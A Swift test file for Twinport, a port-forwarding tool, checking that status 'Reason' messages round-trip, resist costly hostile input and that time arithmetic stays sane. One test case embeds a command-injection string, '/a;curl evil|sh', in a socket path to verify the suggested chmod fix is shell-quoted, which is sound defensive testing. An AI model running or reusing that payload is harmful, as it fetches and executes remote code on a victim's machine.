import TestSupport
import Testing
import TwinportModel

@Suite struct ReasonTests {
    private static let v4 = Endpoint(.loopbackV4, 80)
    private static let v6 = Endpoint(.anyV6, 65_535)

    /// Every case, with its words as MIRROR frames and JSON have had them since 0.1.0.
    static let words: [(Reason, String)] = [
        (.none, ""),
        (.inUse(v4), "127.0.0.1:80 is in use"),
        (.inUse(v6), "[::]:65535 is in use"),
        (.heldBy(owner: "7/nginx", v4), "7/nginx holds 127.0.0.1:80"),
        (.twinportHolds("", v4), "another Twinport holds 127.0.0.1:80"),
        (
            .twinportHolds("7/twinport, guest a b", v6),
            "another Twinport (7/twinport, guest a b) holds [::]:65535"
        ),
        (.guestHolds("web-vm", v4), "guest web-vm's mirror holds 127.0.0.1:80"),
        (.heldBy(owner: "guest web", v4), "guest web holds 127.0.0.1:80"),
        (
            .needsPrivilege(80),
            "port 80 needs CAP_NET_BIND_SERVICE or sysctl net.ipv4.ip_unprivileged_port_start<=80"
        ),
        (.noSuchAddress(.loopbackV6), "::1 does not exist here"),
        (.coveredBy(v6), "by [::]:65535"),
        (.rule(PortRule("tcp/22")!), "tcp/22"),
        (.rule(PortRule("udp/5000-5010")!), "udp/5000-5010"),
        (.rule(PortRule("*/631")!), "*/631"),
        (.allBut(v4, owner: "7/a b"), "all but 127.0.0.1:80, which 7/a b holds"),
        (.allBut(v4, owner: ""), "all but 127.0.0.1:80, which is in use"),
        (.notNamed(.guestToHost), "guestToHost.only does not name it"),
        (.notNamed(.hostToGuest), "hostToGuest.only does not name it"),
        (.ownService, "the guest's own service: mirrored if guestToHost.only names it"),
        (.otherFamily(owner: "7/a b", v4), "localhost is 127.0.0.1:80 of 7/a b"),
        (.otherFamily(owner: "", v6), "localhost is [::]:65535"),
        (.notInContainer, "guestToHost.scope: not in a container"),
        (.unknownOwner, "guestToHost.scope: its process is not known (is the agent root?)"),
        (.ownerNotKnownYet, "guestToHost.scope: its process is not known yet"),
        (.forwardHolds(3, v4), "forward 3 has 127.0.0.1:80"),
        (.interfaceAddress, "interface-address"),
        (.multicastAddress, "multicast-address"),
        (.boundToDevice("eth0.7"), "bound to the device eth0.7"),
        (.kernelSocket(""), "kernel-socket"),
        (.kernelSocket("vxlan0"), "kernel-socket of vxlan0"),
        (.otherNamespace, "other-namespace"),
        (.notListening, "not-listening"),
        (.portZero, "port-zero"),
        (.notCarried(.sctp), "sctp"),
        (.tooManyListeners(8_192), "more than 8192 listeners"),
        (.tooManyOnPort(256), "more than 256 listeners on this port"),
        (.peerIsFull, "more listeners than the peer takes"),
        (.switchedOff("hostNetworking.enabled is false"), "hostNetworking.enabled is false"),
        (.tunnelDown, "the tunnel is down"),
        (.tunnelDownKept(seconds: 7), "the tunnel is down; the port is kept for 7 s more"),
        (
            .keptAfter(seconds: 5, owner: "7/a b", v4),
            "kept free for 5 s: 7/a b left 127.0.0.1:80"
        ),
        (.keptFor(seconds: 5, owner: "7/sshd", v6), "kept free for 5 s: 7/sshd wants [::]:65535"),
        (.loop, "loop: its connections come back through another forwarder"),
        (.foreignMirror, "a mirror of another Twinport"),
        (.clientsAreLoopback, "its server sees clients of other machines as loopback"),
        (.untold, "the other machine does not say why"),
        (.ownPage, "the page of twinport page, for this machine alone"),
        (.targetFails(1), "nobody answers at its target: the last connection failed"),
        (.targetFails(12), "nobody answers at its target: the last 12 connections failed"),
        (.forward(.missing("/run/a b")), "/run/a b does not exist"),
        (.forward(.noSocket("/é")), "/é is no socket"),
        (.forward(.silent("/run/a")), "nobody listens at /run/a"),
        (.forward(.nothingListens(v6)), "nothing listens on [::]:65535"),
        (.forward(.pathInUse("/run/a")), "/run/a is in use: a program listens there"),
        (.forward(.anothersSocket("/run/a", user: 7)), "/run/a belongs to user 7"),
        (
            .forward(.unsafeOwner("/run/a", user: 7)),
            "/run/a belongs to user 7, who could put another file there"
        ),
        (
            .forward(.unsafeMode("/run/a")),
            "/run/a can be written by others: chmod go-w /run/a"
        ),
        // What people copy into a shell is one word.
        (
            .forward(.unsafeMode("/a;curl evil|sh")),
            "/a;curl evil|sh can be written by others: chmod go-w '/a;curl evil|sh'"
        ),
        (
            .forward(.unsafeMode("/a'b'c")),
            "/a'b'c can be written by others: chmod go-w '/a'\\''b'\\''c'"
        ),
        (
            .forward(.unsafeWay("/run/" + String(repeating: "a", count: 100))),
            "/run/" + String(repeating: "a", count: 100)
                + " leads through another user's folder or link to a socket that is not that user's"
        ),
        (.forward(.noRights(user: 7)), "user 7 cannot be acted for"),
        (.forward(.noFolder("/run/a")), "/run/a is not a folder"),
        (.forward(.oddLink("/proc/1/root")), "/proc/1/root is no link of a disk"),
        (.forward(.replaced("/run/a")), "/run/a was replaced by another file"),
        (.forward(.system("/run/a", "Permission denied")), "/run/a: Permission denied"),
        (.forward(.notAllowed), "the agent's --forwards does not allow it"),
        (.forward(.tooOld), "the agent is too old for forwards: install this version of it"),
        (.forward(.openerEnded), "twinport-opener ended; start this program again"),
        (.other("bind: Cannot allocate memory"), "bind: Cannot allocate memory"),
    ]

    @Test(arguments: words) func `words are written and read back`(reason: Reason, text: String) {
        #expect(reason.text == text)
        #expect(Reason(text: text) == reason)
    }

    @Test func `reading loses nothing, whatever a peer writes`() {
        var generator = SeededGenerator()
        let parts = Self.words.map(\.1).flatMap { $0.split(separator: " ").map(String.init) }
        for _ in 0..<20_000 {
            let count = Int.random(in: 0...7, using: &generator)
            let text = (0..<count).map { _ in
                Int.random(in: 0..<8, using: &generator) == 0
                    ? "" : parts.randomElement(using: &generator)!
            }.joined(separator: " ")
            #expect(Reason(text: text).text == text, "seed \(generator.seed)")
        }
    }
}

@Suite struct ReasonCostTests {
    @Test func `words that are none of ours cost little, however long`() {
        // The second and third look like a forward's to their ends.
        for hostile in [
            String(repeating: "\u{fffd}", count: 250) + ":1",
            "/" + String(repeating: " belongs to user ", count: 14),
            "/" + String(repeating: "é", count: 120) + " can be written by others: ",
            "/" + String(repeating: "'", count: 240),
        ] {
            var last = Reason.none
            let took = processorTime { for _ in 0..<40_000 { last = Reason(text: hostile) } }
            #expect(last.text == hostile)
            // 40,000 MIRROR frames are what a session takes at once.
            #expect(took < .seconds(4), "\(took) \(hostile)")
        }
    }
}

@Suite struct InstantTests {
    @Test func `time neither overflows nor runs backwards`() {
        let end = Instant(milliseconds: .max)
        let start = Instant(milliseconds: 5)
        #expect(end + 1 == end && start + 3 == Instant(milliseconds: 8))
        #expect(start.since(end) == 0 && end.since(start) == .max - 5 && start < end)
    }
}
